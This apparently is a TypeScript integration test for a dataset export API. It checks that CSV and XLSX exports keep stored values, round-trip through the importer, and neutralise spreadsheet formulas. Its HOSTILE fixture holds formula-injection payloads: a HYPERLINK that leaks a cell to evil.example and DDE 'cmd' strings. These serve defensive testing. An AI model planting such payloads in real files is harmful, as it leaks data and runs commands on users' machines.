/**
 * A data set's export (`GET /api/v1/datasets/{id}/export`, open to anonymous readers) on a real
 * Postgres: values as stored (micro-units, no float noise), text cells that a spreadsheet would run
 * as a formula neutralised by the exports' one rule, and both formats round-trip through the
 * importer: the same publisher and title, and no changes.
 */
import ExcelJS from "exceljs";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { createPostgresDatabase } from "../support/databases";
import { parseCsv as parseCrlf } from "../support/parse-csv";

/** Rows of a CSV with either line end (the helper reads CRLF). */
const parseCsv = (text: string) => parseCrlf(text.replace(/\r?\n/g, "\r\n"));
const FORMULA_START = /^[=+\-@\t\r]/;
const HOSTILE = {
  publisher: '=HYPERLINK("https://evil.example/?leak="&A2,"Click for the full report")',
  title: "+cmd|' /C calc'!A0",
  edition: "@SUM(1+1)*cmd|' /C calc'!A0",
  source_url: "-2+3+cmd|' /C calc'!A0",
};

describe("data set export on Postgres", () => {
  let teardown = async () => {};
  let m: {
    db: typeof import("@/lib/server/db");
    setup: typeof import("@/lib/server/admin/setup");
    imports: typeof import("@/lib/server/imports");
    exp: typeof import("@/app/api/v1/datasets/[id]/export/route");
  };
  let active = "";

  beforeAll(async () => {
    const db = await createPostgresDatabase("export_rt");
    teardown = db.drop;
    process.env.DATABASE_URL = db.url;
    m = {
      db: await import("@/lib/server/db"),
      setup: await import("@/lib/server/admin/setup"),
      imports: await import("@/lib/server/imports"),
      exp: await import("@/app/api/v1/datasets/[id]/export/route"),
    };
    await m.setup.migrate();
    active = (await m.setup.seed()).datasetId;
  });
  afterAll(async () => {
    await m?.db.closeDb();
    await teardown();
  });

  const exportOf = async (id: string, format: "csv" | "xlsx") => {
    // Anonymous: no cookie, as the attacker who reads the file.
    const r = await m.exp.GET(new Request(`http://app.test/api/v1/datasets/${id}/export?format=${format}`), {
      params: Promise.resolve({ id }),
    });
    expect(r.status).toBe(200);
    return format === "csv" ? new TextEncoder().encode(await r.text()) : new Uint8Array(await r.arrayBuffer());
  };
  const stage = async (bytes: Uint8Array, fileName: string, datasetId?: string) => {
    const r = await m.imports.stageImport({ bytes, fileName, datasetId, actor: "analyst@example.com" });
    if (!r.ok) throw new Error(`${r.message} ${JSON.stringify(r.errors?.slice(0, 3))}`);
    return r.value;
  };

  it("writes every value as stored: at most 6 decimals, and re-imported it previews no changes", async () => {
    const bytes = await exportOf(active, "csv");
    const rows = parseCsv(new TextDecoder().decode(bytes)).filter((r) => r.length === 5 && r[0] !== "meta");
    expect(rows.length).toBeGreaterThan(100);
    const noisy = rows.slice(1).filter((r) => !/^\d+(\.\d{1,6})?$/.test(r[3]));
    expect(noisy.slice(0, 5)).toEqual([]);
    for (const format of ["csv", "xlsx"] as const) {
      const { preview } = await stage(await exportOf(active, format), `export.${format}`);
      expect(preview.summary.newDataset, format).toBe(false);
      expect(preview.changes, format).toEqual([]);
      expect(preview.newMembers, format).toEqual([]);
    }
  });

  it("neutralises formulas in text cells of both formats, and re-import gives back the original text", async () => {
    // A data set whose description is hostile: the default export with its meta rows replaced.
    const csv = new TextDecoder().decode(await exportOf(active, "csv"));
    const lines = csv.split(/\r?\n/).filter((l) => l && !l.startsWith("meta,"));
    const quote = (s: string) => `"${s.replace(/"/g, '""')}"`;
    const meta = Object.entries(HOSTILE).map(([k, v]) => `meta,${k},,${quote(v)},`);
    const file = [lines[0], ...meta, ...lines.slice(1)].join("\n");
    const staged = await stage(new TextEncoder().encode(file), "hostile.csv");
    expect(staged.preview.summary.publisher).toBe(HOSTILE.publisher);
    const committed = await m.imports.commitImport(staged.id, "analyst@example.com");
    if (!committed.ok) throw new Error(committed.message);
    const id = committed.value.id;

    const out = parseCsv(new TextDecoder().decode(await exportOf(id, "csv")));
    const cells = out.flat();
    expect(cells.filter((c) => FORMULA_START.test(c))).toEqual([]);
    const metaOut = Object.fromEntries(out.filter((r) => r[0] === "meta").map((r) => [r[1], r[3]]));
    for (const [k, v] of Object.entries(HOSTILE)) expect(metaOut[k]).toBe(`'${v}`);

    const wb = new ExcelJS.Workbook();
    const xlsx = await exportOf(id, "xlsx");
    await wb.xlsx.load(xlsx.buffer.slice(xlsx.byteOffset, xlsx.byteOffset + xlsx.byteLength) as ArrayBuffer);
    wb.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          expect(cell.formula, `${sheet.name}!${cell.address}`).toBeUndefined();
          if (typeof cell.value === "string") expect(cell.value).not.toMatch(FORMULA_START);
        }),
      ),
    );
    expect(wb.getWorksheet("meta")!.getRow(2).getCell(2).value).toBe(`'${HOSTILE.title}`);

    // Both files read back as the original text: the same data set (publisher), nothing changed.
    for (const format of ["csv", "xlsx"] as const) {
      const { preview } = await stage(await exportOf(id, format), `again.${format}`);
      expect(preview.summary.publisher, format).toBe(HOSTILE.publisher);
      expect(preview.summary.title, format).toBe(HOSTILE.title);
      expect(preview.summary.newDataset, format).toBe(false);
      expect(preview.summary.baseId, format).toBe(id);
      expect(preview.changes, format).toEqual([]);
    }
  });
});
